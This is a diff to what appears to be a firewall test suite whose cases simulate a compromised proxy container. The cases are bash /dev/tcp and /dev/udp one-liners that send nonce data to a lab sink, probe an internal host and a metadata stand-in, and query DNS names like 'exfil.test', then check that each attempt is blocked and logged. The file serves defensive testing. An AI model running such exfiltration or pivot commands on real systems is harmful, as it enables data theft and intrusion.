@@ -1,8 +1,9 @@
 /**
  * The attack suite's cases, derived from docs/threat-model.md (each names its threat), not from
- * the implementation. A case is a bash script run inside the firewall and, unchanged, in the
- * unfirewalled control container; `$N` is the run's nonce (the control's ends in `c`), `$CA`
- * the lab CA, `$NPORT` a port derived from the nonce, `$GW` the container's gateway.
+ * the implementation. A case is a bash script run inside the firewall (in the agent, or in the
+ * proxy container for T9) and, unchanged, in the unfirewalled control container; `$N` is the run's nonce (the control's ends in `c`), `$CA`
+ * the lab CA, `$NPORT` a port derived from the nonce, `$GW` the runner's address on the
+ * container's network.
  */
 import { LAB } from '../helpers/lab.js'
 
@@ -19,6 +20,11 @@ export interface AttackCase {
   readonly category: Category
   /** The threat model row this case attacks (T1...). */
   readonly threat: string
+  /**
+   * Where the attack runs: in the agent (the default), or in the proxy container as Squid's
+   * user, standing in for code execution gained through a Squid or dnsmasq vulnerability (T9).
+   */
+  readonly from?: 'agent' | 'proxy'
   readonly script: string
   /**
    * How the control proves the attack works without the firewall: the lab log holds this
@@ -30,6 +36,18 @@ export interface AttackCase {
   readonly leak?: string
   /** Every signature of the denial that must be present. `$N` is replaced by the nonce. */
   readonly denied: readonly { readonly in: Evidence; readonly match: string }[]
+  /**
+   * The event the run's report must hold for this attempt (LAB rule 5: every blocked attempt
+   * is reported): the refusing layer, the target (`$N` is the nonce) and the port. Derived
+   * from the Squid and kernel signatures where there is one; attempts that never send a
+   * packet (refused syscalls, sockets) have none.
+   */
+  readonly reported?: {
+    readonly layer: 'proxy' | 'dns' | 'agent' | 'host' | 'runner'
+    /** Absent where the address is the run's own (the runner's gateway address). */
+    readonly target?: string
+    readonly port?: number
+  }
   /**
    * A documented, accepted gap (docs/threat-model.md): the attack is expected to get
    * through; the suite reports it as GAP, and fails if it ever stops working unnoticed.
@@ -55,6 +73,19 @@ const agentDrop = (ip: string, port: string): { in: Evidence; match: string } =>
   in: 'kernel',
   match: `agent-drop: .*DST=${esc(ip)} .*DPT=${port} `
 })
+
+/** The host rules' log line for a packet from the proxy's network to ip:port. */
+const hostDrop = (ip: string, port: string): { in: Evidence; match: string } => ({
+  in: 'kernel',
+  match: `host-drop: .*DST=${esc(ip)} .*DPT=${port} `
+})
+
+/** An HTTP GET with bash alone (the proxy image has no HTTP client). */
+const rawGet = (ip: string, port: number, path: string, host?: string): string =>
+  `exec 3<>/dev/tcp/${ip}/${port} && printf "GET ${path} HTTP/1.0\\r\\n${host ? `Host: ${host}\\r\\n` : ''}\\r\\n" >&3 && cat <&3`
+
+/** A listener on the runner itself, on every address (the suite starts it). */
+export const RUNNER_PORT = 18190
 
 /** 198.18.0.10 in other notations that clients and Squid read as the same address. */
 function ipForms(ip: string): Record<string, string> {
@@ -219,6 +250,7 @@ export function attackCases(seccompTable: readonly { name: string; nr: number }[
       category: 'dns',
       threat: 'T3',
       script: 'getent hosts $N-d1.blocked.test',
+      reported: { layer: 'dns', target: '$N-d1.blocked.test' },
       control: { lab: '-d1.blocked.test' },
       leak: '-d1.blocked.test',
       denied: [{ in: 'dns', match: 'config $N-d1\\.blocked\\.test is NXDOMAIN' }]
@@ -228,6 +260,7 @@ export function attackCases(seccompTable: readonly { name: string; nr: number }[
       category: 'dns',
       threat: 'T3',
       script: 'getent hosts $N-d2.exfil.test',
+      reported: { layer: 'dns', target: '$N-d2.exfil.test' },
       control: { lab: '-d2.exfil.test' },
       leak: '-d2.exfil.test',
       denied: [{ in: 'dns', match: 'config $N-d2\\.exfil\\.test is NXDOMAIN' }]
@@ -400,6 +433,53 @@ export function attackCases(seccompTable: readonly { name: string; nr: number }[
       control: 'local',
       denied: [{ in: 'output', match: 'No such file or directory' }]
     },
+    // --- a compromised proxy (T9): the proxy is the only container with a route out ----------
+    {
+      id: 'pivot-proxy-other-port',
+      category: 'host',
+      threat: 'T9',
+      from: 'proxy',
+      script: `exec 3<>/dev/tcp/${A.sink}/$NPORT && printf "$N-v1\\n" >&3 && echo sent`,
+      control: { lab: '-v1' },
+      leak: '-v1',
+      denied: [hostDrop(A.sink!, '$NPORT')]
+    },
+    {
+      id: 'pivot-proxy-udp',
+      category: 'host',
+      threat: 'T9',
+      from: 'proxy',
+      script: `printf "$N-v2" >/dev/udp/${A.sink}/5353 && echo sent`,
+      control: { lab: '-v2' },
+      leak: '-v2',
+      denied: [hostDrop(A.sink!, '5353')]
+    },
+    ...[
+      { id: 'pivot-proxy-internal-host', ip: A.internal!, tag: '-v3' },
+      { id: 'pivot-proxy-metadata-stand-in', ip: A.metadata!, tag: '-v4' }
+    ].map(({ id, ip, tag }): AttackCase => ({
+      id,
+      category: 'host',
+      threat: 'T9',
+      from: 'proxy',
+      script: rawGet(ip, 80, `/$N${tag}`),
+      control: { lab: tag },
+      leak: tag,
+      denied: [hostDrop(ip, '80')]
+    })),
+    {
+      id: 'pivot-proxy-runner-port',
+      category: 'host',
+      threat: 'T9',
+      from: 'proxy',
+      script: rawGet('$GW', RUNNER_PORT, '/$N-v5'),
+      control: { output: /RUNNER-LISTENER/ },
+      denied: [
+        { in: 'output', match: '^(?![\\s\\S]*RUNNER-LISTENER)' },
+        { in: 'kernel', match: `runner-drop: .*DPT=${RUNNER_PORT} ` }
+      ],
+      reported: { layer: 'runner', port: RUNNER_PORT }
+    },
     // --- environment ------------------------------------------------------------------------
     {
       id: 'env-proxy-variables-unset',
@@ -569,9 +649,37 @@ export function attackCases(seccompTable: readonly { name: string; nr: number }[
       control: { output: /LAB-SHARED-BLOCKED/ },
       denied: [],
       gap: 'inside an allowed HTTPS tunnel the Host header is not visible to the proxy'
+    },
+    {
+      id: 'gap-compromised-proxy-allowed-port',
+      category: 'known-gap',
+      threat: 'T9',
+      from: 'proxy',
+      script: rawGet(A.blocked!, 80, '/$N-g4', 'blocked.test'),
+      control: { lab: '-g4' },
+      denied: [],
+      gap: 'a compromised proxy reaches any public address on an allowed port: the host rules know ports and address ranges, not names'
     }
   ]
-  return cases
+  return cases.map((c) => (c.reported || c.gap ? c : { ...c, reported: reportedFrom(c) }))
+}
+
+/** The report event implied by a Squid denial or a kernel drop signature. */
+function reportedFrom(c: AttackCase): AttackCase['reported'] {
+  const unescape = (s: string): string => s.replace(/\\(.)/g, '$1')
+  for (const d of c.denied) {
+    const squid = /^TCP_DENIED\/403 \S+ (\S+) (\d+) $/.exec(d.match)
+    if (d.in === 'access' && squid)
+      return { layer: 'proxy', target: unescape(squid[1]!), port: Number(squid[2]) }
+    const drop = /^(agent|host)-drop: \.\*DST=(\S+) \.\*DPT=(\d+) $/.exec(d.match)
+    if (d.in === 'kernel' && drop)
+      return {
+        layer: drop[1] as 'agent' | 'host',
+        target: unescape(drop[2]!),
+        port: Number(drop[3])
+      }
+  }
+  return undefined
 }
 
 /** The firewalled run's policy: the lab's allowed hosts, and names that rebind to private space. */
